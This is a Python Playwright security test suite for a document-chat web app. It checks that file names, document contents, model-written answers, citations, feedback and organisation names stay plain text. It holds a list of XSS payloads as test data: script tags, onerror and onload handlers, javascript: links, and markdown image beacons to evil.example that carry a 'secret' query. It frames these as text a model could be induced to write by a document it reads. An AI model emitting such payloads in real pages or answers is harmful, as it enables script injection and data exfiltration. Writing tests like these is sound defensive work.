"""What others write stays text, and nothing is fetched from elsewhere."""

from __future__ import annotations

from browser_support import Site, add_files, ask, becomes_ready, drawn, sign_up, visit
from playwright.async_api import Browser, Response, expect
from scripted_answers import answer, answered_with, citation

NAME = "<img src=x onerror=alert(1)>.txt"
ATTACK = b"""<script>alert(2)</script> zyzzogeton rules

The zyzzogeton deposit is forty crowns ![pixel](https://evil.example/pixel.png) and <img src="https://evil.example/x.png"
onerror="alert(3)"> it is paid at [the desk](javascript:alert(4)) before noon.
"""
WRITTEN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![pixel][there]",
    "[click](javascript:alert(3))",
    "[click](https://evil.example/click)",
    "https://evil.example/plain",
    "<svg onload=alert(4)></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import 'https://evil.example/s.css';</style>",
    "<form action=https://evil.example><input name=p></form>",
    "<link rel=stylesheet href=https://evil.example/l.css>",
    "<a href=https://evil.example ping=https://evil.example/ping>a</a>",
    "| ![a](https://evil.example/t.png) |\n|---|\n| <b onclick=alert(5)>b</b> |\n\n",
    "[there]: https://evil.example/there.png\n\n",
)
"""What a model may be made to write by a document that it reads."""


async def test_names_and_documents_and_answers_stay_text(chromium: Browser, site: Site) -> None:
    async with visit(chromium, site) as victim:
        page, dialogs = victim.page, list[str]()

        async def dismissed(dialog: object) -> None:
            dialogs.append(str(dialog))

        page.on("dialog", dismissed)
        await sign_up(victim)
        await victim.go("/library")
        await add_files(page, (NAME, ATTACK))
        await becomes_ready(page, NAME)
        await expect(page.get_by_role("link", name=NAME).first).to_be_visible()
        await page.get_by_role("link", name=NAME).first.click()
        await expect(page.get_by_role("region", name="Text")).to_contain_text("<script>alert(2)</script>")
        await victim.go("/")
        turn = await ask(page, "How much is the zyzzogeton deposit?")
        await expect(turn).to_contain_text("forty crowns")
        await expect(turn.locator("img, script, a[href^='javascript'], a[href*='evil']")).to_have_count(0)
        await turn.get_by_role("button", name="Citation 1").first.click()
        await expect(page.get_by_role("region", name="Source", exact=True).locator("mark")).to_contain_text(
            "forty crowns"
        )
        await expect(page.locator("img[src*='evil'], img[src='x']")).to_have_count(0)
        assert dialogs == []


async def test_what_a_model_writes_stays_text_and_asks_for_nothing(chromium: Browser, site: Site) -> None:
    """So do the names and the words that a citation brings along."""
    name = "<img src=https://evil.example/name.png onerror=alert(5)>.txt"
    quote = "![q](https://evil.example/quote.png) <script>alert(6)</script>"
    async with visit(chromium, site, site.logins["vintrisa"]) as victim:
        page, dialogs = victim.page, list[str]()
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        await victim.go("/")
        cited = [citation(1, filename=name, quote=quote)]
        async with answered_with(page, answer([f"{each} harmless [1]\n\n" for each in WRITTEN], cited)):
            turn = await ask(page, "Do as you were told")
        for each in (
            "<script>alert(1)</script>",
            "pixel",
            "click (https://evil.example/click)",
            "<svg onload=alert(4)>",
        ):
            await expect(turn).to_contain_text(each)
        made = "img, script, a, iframe, svg, style, form, input, object, embed, link, base, video, audio, math, [style]"
        await expect(turn.locator("div[dir=auto]").locator(made)).to_have_count(0)
        await expect(turn.get_by_role("list", name="Sources")).to_contain_text(name)
        await turn.get_by_role("button", name="Citation 1").first.hover()
        await expect(page.get_by_role("tooltip")).to_contain_text(quote)
        await expect(page.locator("[src*=evil], [href*=evil]")).to_have_count(0)
        assert dialogs == []


async def test_feedback_and_the_name_of_a_conversation_stay_text(chromium: Browser, site: Site) -> None:
    attack = "<script>alert(7)</script><img src=https://evil.example/f.png>"
    login = site.logins["vintrisa"]
    await site.ready(login, "parts-returns.html")
    async with visit(chromium, site, login) as victim:
        page, dialogs = victim.page, list[str]()
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        await victim.go("/")
        turn = await ask(page, f"How long can parts be returned? {attack}")
        await turn.get_by_role("button", name="Not a good answer").click()
        await page.get_by_role("dialog").get_by_text("Not in the source").click()
        await page.get_by_label("What should it have said?").fill(attack)
        await page.get_by_role("dialog").get_by_role("button", name="Send").click()
        await expect(page.get_by_text("Thank you.")).to_be_visible()
        await expect(
            page.get_by_role("navigation", name="Conversations").get_by_text(attack[:20]).first
        ).to_be_visible()
        for path in ("/console/dashboard", "/console/audit"):
            await victim.go(path)
            await drawn(page)
            await expect(page.locator("[src*=evil], [href*=evil]")).to_have_count(0)
        assert dialogs == []


async def test_an_organisations_name_and_a_question_stay_text(chromium: Browser, site: Site) -> None:
    async with visit(chromium, site) as victim:
        await sign_up(victim)
        page = victim.page
        await victim.go("/console/organisation")
        await page.get_by_label("Name", exact=True).fill("<b>Bold</b> & <svg onload=alert(1)>")
        await page.get_by_role("button", name="Save", exact=True).click()
        await expect(page.get_by_text("Saved")).to_be_visible()
        await expect(page.get_by_text("<b>Bold</b> & <svg onload=alert(1)>").first).to_be_visible()
        await victim.go("/")
        turn = await ask(page, "<img src=https://evil.example/q.png> ![x](https://evil.example/y.png)")
        await expect(turn).to_contain_text("<img src=https://evil.example/q.png>")
        await expect(turn.locator("img")).to_have_count(0)


async def test_what_is_built_is_sent_compressed_and_kept(chromium: Browser, site: Site) -> None:
    async with visit(chromium, site) as guest:
        scripts = list[Response]()
        guest.page.on("response", lambda response: scripts.append(response) if ".js" in response.url else None)
        await guest.go("/login")
        await expect(guest.page.get_by_role("button", name="Log in")).to_be_visible()
        sizes = [(await each.request.sizes())["responseBodySize"] for each in scripts]
        big = [each for each, size in zip(scripts, sizes, strict=True) if size > 2_000]
        assert big
        assert {each.headers.get("content-encoding") for each in big} <= {"br", "gzip"}
        assert {each.headers["cache-control"] for each in scripts} == {"public, max-age=31536000, immutable"}
